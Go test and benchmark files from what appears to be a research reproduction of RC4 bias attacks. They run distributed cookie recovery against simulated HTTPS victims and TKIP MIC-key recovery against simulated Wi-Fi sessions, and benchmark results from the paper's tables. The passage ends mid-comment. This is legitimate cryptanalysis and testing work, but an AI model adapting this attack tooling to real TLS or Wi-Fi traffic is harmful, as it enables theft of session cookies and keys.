	if start, n := j.LaneExtent(0); start != 0 || n != 1000 {
		t.Fatalf("lane 0 extent = %d+%d", start, n)
	}
	if start, n := j.LaneExtent(2); start != 2000 || n != 500 {
		t.Fatalf("lane 2 extent = %d+%d", start, n)
	}
	s := j.LaneStream(2)
	if s.Lane != 2 {
		t.Fatalf("lane stream = %+v", s)
	}
}
