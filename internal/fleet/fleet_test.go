package fleet_test

import (
	"bytes"
	"context"
	"errors"
	mrand "math/rand"
	"net"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/fleet"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/rc4"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

// cookieTestSetup builds the shared §6 attack configuration used by both
// the fleet and its single-process equivalent: an 8-character cookie at a
// scale where the online loop confirms the cookie mid-run (round 3 of 5),
// so the early-stop path — not just budget exhaustion — is what both runs
// must agree on.
func cookieTestSetup(t *testing.T) (cookieattack.Config, string, fleet.JobSpec) {
	t.Helper()
	const secret = "C00kie8+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	cfg := cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	fp := newCookieAttack(t, cfg).Fingerprint()
	job := fleet.JobSpec{
		Attack:      "cookie",
		Mode:        "model",
		Seed:        1,
		Budget:      9 << 27,
		LaneRecords: 1 << 27,
		Fingerprint: fp,
	}
	return cfg, secret, job
}

func newCookieAttack(t *testing.T, cfg cookieattack.Config) *cookieattack.Attack {
	t.Helper()
	a, err := cookieattack.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func cookieSnap(t *testing.T, a *cookieattack.Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// singleProcessCookieRun is the fleet's single-process equivalent: one
// online.Run whose feed captures the same lanes, with the same per-lane
// seeds, merged in the same lane order.
func singleProcessCookieRun(t *testing.T, cfg cookieattack.Config, secret string, job fleet.JobSpec, cad online.Cadence, depth int) (online.Result, error, []byte) {
	t.Helper()
	pool := newCookieAttack(t, cfg)
	lane := uint64(0)
	res, err := online.Run(online.Config{
		Decoder:       pool,
		Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        job.Budget,
		Feed: online.FeedFunc(func(target uint64) error {
			for pool.Records < target && lane < job.Lanes() {
				_, records := job.LaneExtent(lane)
				shard, cerr := cookieattack.CollectLane(cfg, []byte(secret), job.LaneStream(lane),
					cliutil.LaneSeed(job.Seed, lane), records, 0)
				if cerr != nil {
					return cerr
				}
				if merr := pool.Merge(shard); merr != nil {
					return merr
				}
				lane++
			}
			return nil
		}),
	})
	return res, err, cookieSnap(t, pool)
}

// cookieCollect is the worker-side collect loop for model-mode cookie lanes.
func cookieCollect(cfg cookieattack.Config, secret string) func(fleet.JobSpec, fleet.Lease) ([]byte, error) {
	return func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
		a, err := cookieattack.CollectLane(cfg, []byte(secret), lease.Stream,
			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, 0)
		if err != nil {
			return nil, err
		}
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			return nil, err
		}
		return buf.Bytes(), nil
	}
}

// fleetWorker describes one test worker: its collect hook and whether its
// Run is expected to fail (the killed worker).
type fleetWorker struct {
	id         string
	collect    func(fleet.JobSpec, fleet.Lease) ([]byte, error)
	expectFail bool
	// startAfter delays the worker's start (the rejoining worker).
	startAfter <-chan struct{}
	// dial overrides the worker's transport (the killed worker's conn is
	// severed from under it to simulate a hard crash).
	dial func(addr string) (net.Conn, error)
}

// runCookieFleet stands up a coordinator on loopback TCP, runs the given
// workers against it, and returns the coordinator's outcome and the merged
// pool snapshot.
func runCookieFleet(t *testing.T, cfg cookieattack.Config, job fleet.JobSpec, cad online.Cadence, depth int, secret string, workers []fleetWorker) (online.Result, error, []byte) {
	t.Helper()
	pool := newCookieAttack(t, cfg)
	coord, err := fleet.NewCoordinator(fleet.Config{
		Job:           job,
		Pool:          &fleet.CookiePool{Attack: pool},
		Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
		Cadence:       cad,
		MaxCandidates: depth,
		LeaseTTL:      400 * time.Millisecond,
		Logf:          t.Logf,
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	coord.Serve(l)
	defer coord.Close()

	var wg sync.WaitGroup
	for _, spec := range workers {
		spec := spec
		wg.Add(1)
		go func() {
			defer wg.Done()
			if spec.startAfter != nil {
				<-spec.startAfter
			}
			w := &fleet.Worker{
				Addr:        l.Addr().String(),
				ID:          spec.id,
				Attack:      "cookie",
				Fingerprint: job.Fingerprint,
				Collect:     spec.collect,
				MaxWait:     50 * time.Millisecond,
			}
			if spec.dial != nil {
				w.Dial = func() (net.Conn, error) { return spec.dial(l.Addr().String()) }
			}
			_, err := w.Run(context.Background())
			if (err != nil) != spec.expectFail {
				t.Errorf("worker %s: err = %v, expectFail = %v", spec.id, err, spec.expectFail)
			}
		}()
	}
	res, runErr := coord.Run(context.Background())
	wg.Wait()
	return res, runErr, cookieSnap(t, pool)
}

// TestFleetMatchesSingleProcess is the subsystem's acceptance property: a
// 3-worker fleet run produces byte-identical merged evidence and the same
// first-success rank as the equivalent single-process online.Run — and a
// worker killed mid-lease, with another rejoining, still matches, because
// lanes are pure functions of the job and expired leases are re-captured.
func TestFleetMatchesSingleProcess(t *testing.T) {
	if testing.Short() {
		// The race job runs this test in its own dedicated step (see
		// .github/workflows/ci.yml); under -short the module-wide sweep
		// keeps only the cheaper fleet tests.
		t.Skip("skipping the full fleet acceptance run in -short mode")
	}
	cfg, secret, job := cookieTestSetup(t)
	cad := online.Cadence{First: 1 << 27}
	const depth = 1 << 13

	refRes, refErr, refSnap := singleProcessCookieRun(t, cfg, secret, job, cad, depth)
	if refErr != nil {
		t.Fatalf("single-process reference run failed: %v", refErr)
	}
	if string(refRes.Plaintext) != secret {
		t.Fatalf("reference recovered %q", refRes.Plaintext)
	}
	t.Logf("reference: rank %d at %d observations, %d rounds", refRes.Rank, refRes.Observed, refRes.Rounds)

	check := func(t *testing.T, res online.Result, err error, snap []byte) {
		t.Helper()
		if err != nil {
			t.Fatalf("fleet run failed: %v", err)
		}
		if res.Rank != refRes.Rank || res.Observed != refRes.Observed || res.Rounds != refRes.Rounds ||
			!bytes.Equal(res.Plaintext, refRes.Plaintext) {
			t.Fatalf("fleet outcome (rank=%d obs=%d rounds=%d %q) differs from single-process (rank=%d obs=%d rounds=%d %q)",
				res.Rank, res.Observed, res.Rounds, res.Plaintext,
				refRes.Rank, refRes.Observed, refRes.Rounds, refRes.Plaintext)
		}
		if res.Checks != refRes.Checks || res.Skipped != refRes.Skipped {
			t.Fatalf("oracle traffic differs: fleet %d/%d, single-process %d/%d",
				res.Checks, res.Skipped, refRes.Checks, refRes.Skipped)
		}
		if !bytes.Equal(snap, refSnap) {
			t.Fatal("fleet merged evidence differs bitwise from the single-process run")
		}
	}

	t.Run("three workers", func(t *testing.T) {
		collect := cookieCollect(cfg, secret)
		res, err, snap := runCookieFleet(t, cfg, job, cad, depth, secret, []fleetWorker{
			{id: "w1", collect: collect},
			{id: "w2", collect: collect},
			{id: "w3", collect: collect},
		})
		check(t, res, err, snap)
	})

	t.Run("worker killed mid-lease rejoins", func(t *testing.T) {
		collect := cookieCollect(cfg, secret)
		died := make(chan struct{})
		var once sync.Once
		// A hard crash: the worker's connection is severed before its
		// collect hook errors, so even the best-effort release RPC cannot
		// reach the coordinator and the lane must come back through lease
		// expiry — the fault path a real dead machine exercises.
		var doomedConn net.Conn
		killDial := func(addr string) (net.Conn, error) {
			c, err := net.Dial("tcp", addr)
			doomedConn = c
			return c, err
		}
		killingCollect := func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
			once.Do(func() { close(died) })
			if doomedConn != nil {
				doomedConn.Close()
			}
			return nil, errors.New("simulated worker crash")
		}
		res, err, snap := runCookieFleet(t, cfg, job, cad, depth, secret, []fleetWorker{
			{id: "doomed", collect: killingCollect, expectFail: true, dial: killDial},
			{id: "w2", collect: collect},
			{id: "w3", collect: collect},
			// The rejoined worker starts once the doomed one has died
			// holding a lease; that lease expires and its lane is
			// re-captured by whichever worker asks next.
			{id: "doomed", collect: collect, startAfter: died},
		})
		check(t, res, err, snap)
	})
}

// trueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV trailer (what the model-mode sampler feeds on).
func trueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}

// TestFleetTKIPMatchesSingleProcess covers the TKIP pool: a 2-worker fleet
// over model-mode frame lanes ends (budget exhausted at toy scale) with
// bitwise-identical capture state and the same round count as the
// single-process equivalent.
func TestFleetTKIPMatchesSingleProcess(t *testing.T) {
	session := &tkip.Session{
		TK:     [16]byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 1, 2, 3, 4, 5, 6},
		MICKey: [8]byte{1, 2, 3, 4, 5, 6, 7, 8},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22},
		DA:     [6]byte{0x33, 0x44, 0x55, 0x66, 0x77, 0x88},
		SA:     [6]byte{0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	positions := tkip.TrailerPositions(len(victim.MSDU))
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/512, 3)
	trailer := trueTrailer(session, victim.MSDU)
	fp, err := model.Fingerprint()
	if err != nil {
		t.Fatal(err)
	}
	job := fleet.JobSpec{
		Attack:      "tkip",
		Mode:        "model",
		Seed:        7,
		Budget:      8 << 11,
		LaneRecords: 1 << 11,
		Fingerprint: fp,
	}
	cad := online.Cadence{First: 1 << 11}
	const depth = 64
	newOracle := func() *tkip.TrailerOracle {
		return &tkip.TrailerOracle{DA: session.DA, SA: session.SA, MSDU: victim.MSDU}
	}
	snap := func(a *tkip.Attack) []byte {
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	newAttack := func() *tkip.Attack {
		a, err := tkip.NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}

	// Single-process equivalent.
	ref := newAttack()
	lane := uint64(0)
	refRes, refErr := online.Run(online.Config{
		Decoder:       ref,
		Oracle:        newOracle(),
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        job.Budget,
		Feed: online.FeedFunc(func(target uint64) error {
			for ref.Frames < target && lane < job.Lanes() {
				_, frames := job.LaneExtent(lane)
				shard, err := tkip.CollectLane(model, positions, trailer, job.LaneStream(lane),
					cliutil.LaneSeed(job.Seed, lane), frames, 0)
				if err != nil {
					return err
				}
				if err := ref.Merge(shard); err != nil {
					return err
				}
				lane++
			}
			return nil
		}),
	})

	// Fleet run, 2 workers.
	pool := newAttack()
	coord, err := fleet.NewCoordinator(fleet.Config{
		Job:           job,
		Pool:          &fleet.TKIPPool{Attack: pool, Model: model},
		Oracle:        newOracle(),
		Cadence:       cad,
		MaxCandidates: depth,
		LeaseTTL:      400 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	coord.Serve(l)
	defer coord.Close()

	var wg sync.WaitGroup
	for _, id := range []string{"w1", "w2"} {
		id := id
		wg.Add(1)
		go func() {
			defer wg.Done()
			w := &fleet.Worker{
				Addr:        l.Addr().String(),
				ID:          id,
				Attack:      "tkip",
				Fingerprint: fp,
				MaxWait:     50 * time.Millisecond,
				Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
					a, err := tkip.CollectLane(model, positions, trailer, lease.Stream,
						cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, 0)
					if err != nil {
						return nil, err
					}
					var buf bytes.Buffer
					if err := a.WriteSnapshot(&buf); err != nil {
						return nil, err
					}
					return buf.Bytes(), nil
				},
			}
			if _, err := w.Run(context.Background()); err != nil {
				t.Errorf("worker %s: %v", id, err)
			}
		}()
	}
	res, runErr := coord.Run(context.Background())
	wg.Wait()

	if (refErr == nil) != (runErr == nil) ||
		errors.Is(refErr, online.ErrBudgetExhausted) != errors.Is(runErr, online.ErrBudgetExhausted) {
		t.Fatalf("outcomes differ: single-process %v, fleet %v", refErr, runErr)
	}
	if res.Rounds != refRes.Rounds || res.Observed != refRes.Observed || res.Rank != refRes.Rank {
		t.Fatalf("fleet (rounds=%d obs=%d rank=%d) differs from single-process (rounds=%d obs=%d rank=%d)",
			res.Rounds, res.Observed, res.Rank, refRes.Rounds, refRes.Observed, refRes.Rank)
	}
	if !bytes.Equal(snap(pool), snap(ref)) {
		t.Fatal("fleet merged capture state differs bitwise from the single-process run")
	}
}

// TestFleetServesLanesFromTraceShards pins the trace-backed fleet path: a
// capture written to disjoint pcap shard files (split mid-lane, so the
// set must behave as one logical stream) is served lane by lane by
// workers running the strict observation-range ingest, and the
// coordinator's merged pool is byte-identical to a single process
// replaying the same exact-mode lanes in-process.
func TestFleetServesLanesFromTraceShards(t *testing.T) {
	const secret = "C00kie8+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	cfg := cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	job := fleet.JobSpec{
		Attack:      "cookie",
		Mode:        "exact",
		Seed:        5,
		Budget:      1000,
		LaneRecords: 300,
		Fingerprint: newCookieAttack(t, cfg).Fingerprint(),
	}
	cad := online.Cadence{First: 1 << 9}
	const depth = 64
	master := make([]byte, 48)
	mrand.New(mrand.NewSource(job.Seed)).Read(master)
	newVictim := func() *netsim.HTTPSVictim {
		v, err := netsim.NewHTTPSVictim(master, req)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	wantLen := newVictim().RecordPlaintextLen()

	// Write the whole exact stream into two shard files, split mid-lane.
	dir := t.TempDir()
	shardPaths := []string{filepath.Join(dir, "shard-000.pcap"), filepath.Join(dir, "shard-001.pcap")}
	const splitAt = 700 // inside lane 2
	writeShard := func(path string, v *netsim.HTTPSVictim, records, skipBytes uint64) {
		f, err := os.Create(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		pw, err := trace.NewPcapWriter(f, trace.LinkTypeEthernet)
		if err != nil {
			t.Fatal(err)
		}
		sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
		if err != nil {
			t.Fatal(err)
		}
		if skipBytes > 0 {
			sw.SkipSequence(skipBytes)
		}
		if err := v.WriteTrace(sw, records); err != nil {
			t.Fatal(err)
		}
	}
	wv := newVictim()
	writeShard(shardPaths[0], wv, splitAt, 0)
	writeShard(shardPaths[1], wv, job.Budget-splitAt, uint64(wantLen+5)*splitAt)

	// Single-process equivalent: replay the exact lanes in-process.
	collectExactLane := func(lease fleet.Lease) *cookieattack.Attack {
		a := newCookieAttack(t, cfg)
		a.Stream = lease.Stream
		v := newVictim()
		v.Skip(lease.Start)
		collector := &tlsrec.CollectRequests{WantLen: wantLen}
		for i := uint64(0); i < lease.Records; i++ {
			rec := v.SendRequest()
			if err := collector.Feed(rec, func(body []byte) {
				if oerr := a.ObserveRecord(body); oerr != nil {
					t.Error(oerr)
				}
			}); err != nil {
				t.Fatal(err)
			}
		}
		return a
	}
	ref := newCookieAttack(t, cfg)
	lane := uint64(0)
	refRes, refErr := online.Run(online.Config{
		Decoder:       ref,
		Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
		Cadence:       cad,
		MaxCandidates: depth,
		Budget:        job.Budget,
		Feed: online.FeedFunc(func(target uint64) error {
			for ref.Records < target && lane < job.Lanes() {
				start, records := job.LaneExtent(lane)
				shard := collectExactLane(fleet.Lease{
					Lane: lane, Start: start, Records: records, Stream: job.LaneStream(lane),
				})
				if err := ref.Merge(shard); err != nil {
					return err
				}
				lane++
			}
			return nil
		}),
	})

	// Fleet run: two workers serving lanes from the shard files.
	pool := newCookieAttack(t, cfg)
	coord, err := fleet.NewCoordinator(fleet.Config{
		Job:           job,
		Pool:          &fleet.CookiePool{Attack: pool},
		Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
		Cadence:       cad,
		MaxCandidates: depth,
		LeaseTTL:      400 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	coord.Serve(l)
	defer coord.Close()

	var wg sync.WaitGroup
	for _, id := range []string{"w1", "w2"} {
		id := id
		wg.Add(1)
		go func() {
			defer wg.Done()
			w := &fleet.Worker{
				Addr:        l.Addr().String(),
				ID:          id,
				Attack:      "cookie",
				Fingerprint: job.Fingerprint,
				MaxWait:     50 * time.Millisecond,
				Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
					a, err := cookieattack.New(cfg)
					if err != nil {
						return nil, err
					}
					a.Stream = lease.Stream
					if _, err := cookieattack.CollectTraceFiles(a, wantLen, shardPaths,
						lease.Start, lease.Records, true); err != nil {
						return nil, err
					}
					var buf bytes.Buffer
					if err := a.WriteSnapshot(&buf); err != nil {
						return nil, err
					}
					return buf.Bytes(), nil
				},
			}
			if _, err := w.Run(context.Background()); err != nil {
				t.Errorf("worker %s: %v", id, err)
			}
		}()
	}
	res, runErr := coord.Run(context.Background())
	wg.Wait()

	if (refErr == nil) != (runErr == nil) ||
		errors.Is(refErr, online.ErrBudgetExhausted) != errors.Is(runErr, online.ErrBudgetExhausted) {
		t.Fatalf("outcomes differ: single-process %v, fleet %v", refErr, runErr)
	}
	if res.Rounds != refRes.Rounds || res.Observed != refRes.Observed || res.Rank != refRes.Rank {
		t.Fatalf("fleet (rounds=%d obs=%d rank=%d) differs from single-process (rounds=%d obs=%d rank=%d)",
			res.Rounds, res.Observed, res.Rank, refRes.Rounds, refRes.Observed, refRes.Rank)
	}
	if !bytes.Equal(cookieSnap(t, ref), cookieSnap(t, pool)) {
		t.Fatal("trace-served fleet evidence is not bitwise-identical to the in-process replay")
	}
}
