// Package rc4break's root benchmark harness: one benchmark per table and
// figure of the paper's evaluation (see DESIGN.md §3 for the index), plus
// the §5.4/§6.3 throughput microbenchmarks. Benchmarks run the experiment
// drivers at laptop scale; cmd/repro exposes the same drivers with flags
// for larger runs. Custom metrics (success rates, probabilities) are
// attached with b.ReportMetric so `go test -bench` output doubles as a
// compact reproduction report.
package rc4break

import (
	"bytes"
	"context"
	"io"
	"math/rand"
	"testing"

	"rc4break/internal/cookieattack"
	"rc4break/internal/experiments"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/recovery"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
	"rc4break/internal/trace"
)

// BenchmarkTable1FluhrerMcGrew regenerates Table 1: long-term FM digraph
// probabilities via targeted counting. Reported metric: the z statistic of
// the aggregated (0,0) family versus uniform (positive = bias confirmed).
func BenchmarkTable1FluhrerMcGrew(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.Table1(context.Background(), [16]byte{1}, 8, 512, 0)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[1].Values[2], "z(0,0)")
	}
}

// BenchmarkFigure4ShortTermFM regenerates Figure 4: FM digraph relative
// biases in the initial keystream bytes.
func BenchmarkFigure4ShortTermFM(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.Figure4(context.Background(), 1<<16, 0, 96); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable2PairBiases regenerates Table 2's 22 pair-bias rows.
// Metric: the z statistic of the strongest row (Z15=Z16=240).
func BenchmarkTable2PairBiases(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.Table2(context.Background(), 1<<18, 0)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[0].Values[2], "z(w=1)")
	}
}

// BenchmarkFigure5Z1Z2Influence regenerates Figure 5's six Z1/Z2 bias sets.
func BenchmarkFigure5Z1Z2Influence(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.Figure5(context.Background(), 1<<17, 0, nil); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure6SingleByte regenerates Figure 6: single-byte biases
// beyond position 256 (the 256+16k key-length family).
func BenchmarkFigure6SingleByte(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.Figure6(context.Background(), 1<<15, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkEquality135 regenerates eqs. 3-5 (Z1=Z3, Z1=Z4, Z2=Z4).
func BenchmarkEquality135(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.Equalities(context.Background(), 1<<18, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkLongTermZeroPairs regenerates eq. 8: the (0,0) and (128,0)
// biases at positions that are multiples of 256, with a control cell.
func BenchmarkLongTermZeroPairs(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.LongTermZeroPairs(context.Background(), [16]byte{2}, 8, 512, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFigure7Recovery regenerates Figure 7: two-byte recovery rates
// for ABSAB-only / FM-only / combined evidence. Metric: combined success
// at 2^33 ciphertexts (paper shape: ~1.0).
func BenchmarkFigure7Recovery(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res := experiments.Figure7(int64(n)+7, []uint64{1 << 29, 1 << 31, 1 << 33}, 8, 128)
		b.ReportMetric(res.Rows[2].Values[2], "combined@2^33")
	}
}

// BenchmarkFigure8TKIPSuccess regenerates Figure 8: TKIP MIC-key recovery
// success versus ciphertext copies. Metric: deep-list success at 9x2^20.
func BenchmarkFigure8TKIPSuccess(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.Figures8and9(experiments.TKIPParams{
			Copies:   []uint64{9 << 20},
			Trials:   4,
			MaxDepth: 1 << 14,
			Seed:     int64(n) + 1,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[0].Values[0], "success@9x2^20")
	}
}

// BenchmarkFigure9ICVPosition regenerates Figure 9: the median candidate
// position of the first correct-ICV packet. Metric: that median.
func BenchmarkFigure9ICVPosition(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.Figures8and9(experiments.TKIPParams{
			Copies:   []uint64{7 << 20},
			Trials:   4,
			MaxDepth: 1 << 14,
			Seed:     int64(n) + 100,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[0].Values[2], "medianICVpos")
	}
}

// BenchmarkFigure10Cookie regenerates Figure 10: cookie brute-force success
// versus ciphertexts. Metric: list success at the paper's 9x2^27 point.
func BenchmarkFigure10Cookie(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.Figure10(experiments.CookieParams{
			Ciphertexts: []uint64{9 << 27},
			Trials:      4,
			Candidates:  1 << 10,
			Seed:        int64(n) + 2,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[0].Values[0], "success@9x2^27")
	}
}

// BenchmarkPayloadPlacement regenerates the §5.2 ablation: per-TSC bias
// strength in the trailer window for 0-byte vs 7-byte payloads.
func BenchmarkPayloadPlacement(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.PayloadPlacement(context.Background(), 1<<8, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCharsetAblation regenerates the §6.2 ablation: RFC 6265
// charset restriction versus the full byte space in Algorithm 2.
func BenchmarkCharsetAblation(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.CharsetAblation(int64(n)+3, 1<<31, 2, 1<<10); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTrafficGeneration measures §6.3's request generation: sealed
// TLS records per second from the victim's persistent connection (the
// paper's live setup reached 4450 req/s over the network).
func BenchmarkTrafficGeneration(b *testing.B) {
	req, _, err := netsim.AlignedRequest("site.com", "auth", "0123456789abcdef", 64)
	if err != nil {
		b.Fatal(err)
	}
	master := make([]byte, tlsrec.MasterSecretSize)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(victim.RecordPlaintextLen()))
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		victim.SendRequest()
	}
}

// BenchmarkTKIPInjection measures §5.4's injection path: full TKIP
// encapsulations per second (the paper injected 2500 packets/s over the
// air — CPU is not the bottleneck there, as this shows).
func BenchmarkTKIPInjection(b *testing.B) {
	session := &tkip.Session{TK: [16]byte{1}, MICKey: [8]byte{2}}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	b.SetBytes(int64(victim.FrameLen()))
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		victim.Transmit()
	}
}

// BenchmarkBruteForceRate measures §6.3's cookie-testing rate: candidate
// checks per second against the server model (the paper's pipelined tool
// tested >20000 cookies/s over the network).
func BenchmarkBruteForceRate(b *testing.B) {
	server := &netsim.CookieServer{Secret: []byte("0123456789abcdef")}
	guess := []byte("0123456789abcdeX")
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		server.Check(guess)
	}
}

// BenchmarkCandidateGeneration measures Algorithm 2 throughput at cookie
// scale: one full charset-restricted list-Viterbi over a 16-byte cookie.
func BenchmarkCandidateGeneration(b *testing.B) {
	secret := []byte("0123456789abcdef")
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", string(secret), 64)
	if err != nil {
		b.Fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		b.Fatal(err)
	}
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(5)), secret, 1<<28); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := attack.Candidates(1 << 10); err != nil {
			b.Fatal(err)
		}
	}
}

// benchCookieAttack builds a cookie attack loaded with 2^28 simulated
// records — the shared fixture of the likelihood/candidate benchmarks.
func benchCookieAttack(b *testing.B) *cookieattack.Attack {
	b.Helper()
	secret := []byte("0123456789abcdef")
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", string(secret), 64)
	if err != nil {
		b.Fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		b.Fatal(err)
	}
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(5)), secret, 1<<28); err != nil {
		b.Fatal(err)
	}
	return attack
}

// BenchmarkLikelihoodsCookie measures one cookie-attack likelihood pass:
// the 17-link FM + ABSAB combination (eq. 25) the online runtime re-runs at
// every decode point.
func BenchmarkLikelihoodsCookie(b *testing.B) {
	attack := benchCookieAttack(b)
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := attack.Likelihoods(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkLikelihoodsTKIP measures one TKIP likelihood pass: 12 trailer
// positions x 256 TSC classes of single-byte likelihoods.
func BenchmarkLikelihoodsTKIP(b *testing.B) {
	msduLen := packet.HeaderSize + 7
	positions := tkip.TrailerPositions(msduLen)
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/768, 11)
	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		b.Fatal(err)
	}
	trailer := make([]byte, len(positions))
	for i := range trailer {
		trailer[i] = byte(17 * i)
	}
	if err := attack.SimulateCaptures(rand.New(rand.NewSource(6)), trailer, 9<<20); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := attack.Likelihoods(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDoubleByteCandidates measures repeated Algorithm 2 list-Viterbi
// decodes in isolation (likelihoods precomputed) at the online demo's
// per-round depth — the decode the online runtime re-runs at every cadence
// point, so the N-best tables are held in one PairDecoder across rounds.
func BenchmarkDoubleByteCandidates(b *testing.B) {
	attack := benchCookieAttack(b)
	lks, err := attack.Likelihoods()
	if err != nil {
		b.Fatal(err)
	}
	charset := httpmodel.CookieCharset()
	var dec recovery.PairDecoder
	b.ResetTimer()
	for n := 0; n < b.N; n++ {
		if _, err := dec.Decode(lks, 'a', 'b', 1<<12, charset); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTKIPTraining measures the per-TSC model training rate that the
